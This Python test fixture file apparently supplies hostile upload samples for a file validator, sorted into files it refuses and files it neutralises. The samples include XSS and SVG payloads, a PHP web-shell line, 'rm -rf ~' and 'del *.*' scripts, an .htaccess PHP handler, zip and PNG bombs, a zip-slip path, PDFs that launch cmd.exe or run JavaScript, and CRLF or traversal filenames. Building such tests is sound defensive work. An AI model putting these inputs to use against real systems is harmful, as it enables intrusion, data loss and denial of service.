"""Sixty files that somebody might send to do harm, and a few of them as harmless as they look."""

import io
import struct
import zipfile
import zlib

from PIL import Image

from tests.partnership_services import PDF, picture

SCRIPT = b"<script>alert(document.domain)</script>"
SVG = b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>"
EICAR = b"X5O!P%@AP[4\\PZX54(P^)7CC)7}$" + b"EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"


def pdf(body: bytes) -> bytes:
    return b"%PDF-1.7\n1 0 obj" + body + b"endobj\ntrailer<</Root 1 0 R>>\nstartxref\n0\n%%EOF\n"


def packed(body: bytes, head: bytes = b"/Type/ObjStm/Filter/FlateDecode") -> bytes:
    """A PDF that hides objects in a packed stream."""
    inner = zlib.compress(body)
    return pdf(b"<<" + head + b"/Length %d>>\nstream\n" % len(inner) + inner + b"\nendstream ")


def zipped(**files: bytes) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in files.items():
            archive.writestr(name.replace("__", "/"), content)
    return out.getvalue()


def chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def png(width: int, height: int, data: bytes = b"") -> bytes:
    """A PNG that claims a size."""
    head = chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0))
    return b"\x89PNG\r\n\x1a\n" + head + chunk(b"IDAT", data or zlib.compress(b"\x00" * 100)) + chunk(b"IEND", b"")


def drawn(kind: str, mode: str = "RGB") -> bytes:
    out = io.BytesIO()
    Image.new(mode, (8, 8)).save(out, kind)
    return out.getvalue()


JPEG, PNG, GIF = picture("JPEG"), picture("PNG"), picture("GIF")
WITH_TEXT = PNG[:33] + chunk(b"tEXt", b"Comment\x00" + SCRIPT) + PNG[33:]
COMMENTED = JPEG[:2] + b"\xff\xfe" + struct.pack(">H", len(SCRIPT) + 2) + SCRIPT + JPEG[2:]

REFUSED: dict[str, tuple[str, bytes]] = {
    "svg": ("diploma.svg", SVG),
    "svg called png": ("diploma.png", SVG),
    "svg with a declaration": ("diploma.pdf", b'<?xml version="1.0"?>' + SVG),
    "virus test in a whole pdf": ("diploma.pdf", PDF.replace(b"%%EOF", b"%" + EICAR + b"\n%%EOF")),
    "html": ("diploma.html", b"<!doctype html>" + SCRIPT),
    "html called png": ("diploma.png", b"<html>" + SCRIPT),
    "html called pdf": ("diploma.pdf", SCRIPT),
    "html before a pdf": ("diploma.pdf", SCRIPT + PDF),
    "xhtml": ("a.xhtml", b'<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml"/>'),
    "mhtml": ("a.mht", b"MIME-Version: 1.0\nContent-Type: multipart/related\n\n" + SCRIPT),
    "script": ("a.js", b"alert(1)"),
    "shell script": ("a.sh", b"#!/bin/sh\nrm -rf ~\n"),
    "batch file": ("a.bat", b"@echo off\r\ndel *.*\r\n"),
    "php": ("a.php.png", b"<?php system($_GET['c']); ?>"),
    "htaccess": (".htaccess", b"AddType application/x-httpd-php .png\n"),
    "windows program": ("cv.exe", b"MZ" + b"\x00" * 200),
    "windows program called pdf": ("cv.pdf", b"MZ\x90\x00" + b"\x00" * 200),
    "linux program": ("cv.png", b"\x7fELF\x02\x01\x01" + b"\x00" * 200),
    "mac program": ("cv", b"\xcf\xfa\xed\xfe" + b"\x00" * 200),
    "java class": ("a.class", b"\xca\xfe\xba\xbe\x00\x00\x004" + b"\x00" * 50),
    "wasm": ("a.wasm", b"\x00asm\x01\x00\x00\x00"),
    "shortcut": ("a.lnk", b"L\x00\x00\x00\x01\x14\x02\x00" + b"\x00" * 60),
    "zip": ("a.zip", zipped(a=b"a")),
    "zip bomb": ("a.zip", zipped(a=b"\x00" * 3_000_000)),
    "zip slip": ("a.zip", zipped(**{"..__..__etc__passwd": b"x"})),
    "gzip": ("a.gz", b"\x1f\x8b\x08" + b"\x00" * 20),
    "7z": ("a.7z", b"7z\xbc\xaf\x27\x1c" + b"\x00" * 20),
    "rar": ("a.rar", b"Rar!\x1a\x07\x00" + b"\x00" * 20),
    "word": ("cv.docx", zipped(**{"[Content_Types].xml": b"<Types/>", "word__document.xml": b"<w/>"})),
    "word with a macro": ("cv.docm", zipped(**{"word__vbaProject.bin": b"Attribute VB_Name"})),
    "old word": ("cv.doc", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 600),
    "rtf": ("cv.rtf", b"{\\rtf1{\\object\\objdata 0105}}"),
    "postscript": ("cv.ps", b"%!PS-Adobe-3.0\n(rm) run\n"),
    "gif": ("cv.gif", GIF),
    "gif called png": ("cv.png", GIF),
    "gif and script": ("cv.gif", b"GIF89a/*" + GIF[6:] + b"*/=1;alert(1)"),
    "webp": ("cv.webp", drawn("WEBP")),
    "tiff": ("cv.tif", drawn("TIFF")),
    "bmp": ("cv.bmp", drawn("BMP")),
    "icon": ("cv.ico", drawn("ICO")),
    "photoshop": ("cv.psd", b"8BPS\x00\x01" + b"\x00" * 30),
    "heic": ("cv.heic", b"\x00\x00\x00\x18ftypheic\x00\x00\x00\x00mif1heic"),
    "eicar": ("cv.pdf", EICAR),
    "nothing": ("cv.pdf", b""),
    "one byte": ("cv.png", b"\x89"),
    "zeros": ("cv.jpg", b"\x00" * 1000),
    "only the start of a png": ("cv.png", b"\x89PNG\r\n\x1a\n"),
    "half a png": ("cv.png", PNG[: len(PNG) // 2]),
    "half a jpeg": ("cv.jpg", JPEG[: len(JPEG) // 4]),
    "png of too many points": ("cv.png", png(30_000, 30_000)),
    "png of very many points": ("cv.png", png(2**31 - 1, 2**31 - 1)),
    "png without points": ("cv.png", png(0, 0)),
    "png whose points are a bomb": ("cv.png", png(100, 100, zlib.compress(b"\xff" * 10))),
    "pdf that is not whole": ("cv.pdf", PDF[:20]),
    "pdf with a script": ("cv.pdf", pdf(b"<</OpenAction<</S/JavaScript/JS(app.alert(1))>>>>")),
    "pdf with a script in other letters": ("cv.pdf", pdf(b"<</OpenAction<</S/J#61vaScript/JS(1)>>>>")),
    "pdf with a hidden script": ("cv.pdf", packed(b"1 0 <</S/JavaScript/JS(1)>>")),
    "pdf that starts a program": ("cv.pdf", pdf(b"<</AA<</O<</S/Launch/F(cmd.exe)>>>>>>")),
    "pdf with another file": ("cv.pdf", pdf(b"<</Names<</EmbeddedFiles<<>>>>>>")),
    "pdf that sends a form": ("cv.pdf", pdf(b"<</A<</S/SubmitForm/F(http://x.example)>>>>")),
    "pdf with an xfa form": ("cv.pdf", pdf(b"<</AcroForm<</XFA 2 0 R>>>>")),
    "pdf with a password": ("cv.pdf", pdf(b"<</Encrypt 2 0 R>>")),
    "pdf that is a bomb": ("cv.pdf", packed(b"\x00" * 30_000_000)),
}
"""What is refused, with the name that it came under."""

NEUTRALIZED: dict[str, tuple[str, bytes]] = {
    "jpeg and script": ("a.jpg.html", JPEG + SCRIPT),
    "jpeg with a script as its comment": ("a.jpg", COMMENTED),
    "png and zip": ("a.png", PNG + zipped(a=SCRIPT)),
    "png with a script as its text": ("a.png", WITH_TEXT),
    "pdf and zip": ("a.pdf", PDF + zipped(a=SCRIPT)),
    "pdf and html": ("a.html", PDF + b"<html>" + SCRIPT),
    "a path as its name": ("../../etc/cron.d/a.png", PNG),
    "a name that ends twice": ("a.pdf.exe", PDF),
    "a name that runs backwards": ("a\u202egpj.exe", JPEG),
    "a name of signs that nobody sees": ("\u200b\u200b.png", PNG),
    "a name that never ends": ("a" * 5000 + ".png", PNG),
    "a name with a line break": ("a\r\nSet-Cookie: x=1.png", PNG),
}
"""What is kept without what was hidden in it, under a plain name."""
